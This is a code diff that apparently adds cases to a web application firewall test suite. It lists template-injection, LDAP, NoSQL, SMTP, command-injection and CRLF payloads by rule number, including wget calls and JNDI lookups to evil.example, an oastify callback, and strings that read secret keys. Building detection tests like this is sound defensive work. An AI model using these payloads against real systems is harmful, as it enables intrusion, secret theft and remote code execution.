@@ -38,6 +38,11 @@ export const code: Sent[] = [
   ...each("934", inPatch, ["{{request.application.__globals__.__builtins__}}", "!!python/object/apply:os.system ['id']", "os.system('id')"]),
 
   ...each("934", inJson, ["{{config.items()}}", "{{ request|attr('application') }}", "{{ config['SECRET_KEY'] }}", "{{cycler.__init__}}", "{{ self._TemplateReference__context }}"]),
+  // Templates, and what is neither.
+  ...each("934", inJson, ["{{7*7}}", "{{7*'7'}}", "#{16*8787}", "{% debug %}", "{% include 'admin/base.html' %}", "{{ messages.storages.0.signer.key }}", "{{ request }}", "{{ [].class.base.subclasses() }}", "<%= 7 * 7 %>"]),
+  ...each("934", inQuery, ["(&(uid=admin)(!(&(1=0)(userPassword=q))))", "*(|(objectclass=*))", "true, $where: '99 == 88'", "', $or: [ {}, { 'a':'a", "db.injection.insert({success:1});", "\r\nQUIT\r\n", "\nRCPT TO: test@evil.example\n"]),
+  ...each("932", inJson, [";%77get%20http://evil.example/a", "; ping 127.0.0.1", "; sleep 5", "; php -r 'x'", "; python x.py", "|getent+hosts+a.oastify.com", "$(id)", "<(id)", "; kill -9 1", "if not defined A goto b", "if exist c:\\x del y", "system('id')", "eval(\"x\")"]),
+  ...each("921", inJson, ["x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "GET /admin HTTP/1.1\r\n"]),
   ...each("944", inQuery, [log4shell, "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=1", "org.apache.struts2.ServletActionContext", "java.lang.ProcessBuilder.evil.clonetransformer"]),
   ...each("944", inAgent, [log4shell, "${${lower:j}ndi:rmi://evil.example/x}"]),
   ...each("944", inHeader("X-Api-Version"), [log4shell]),
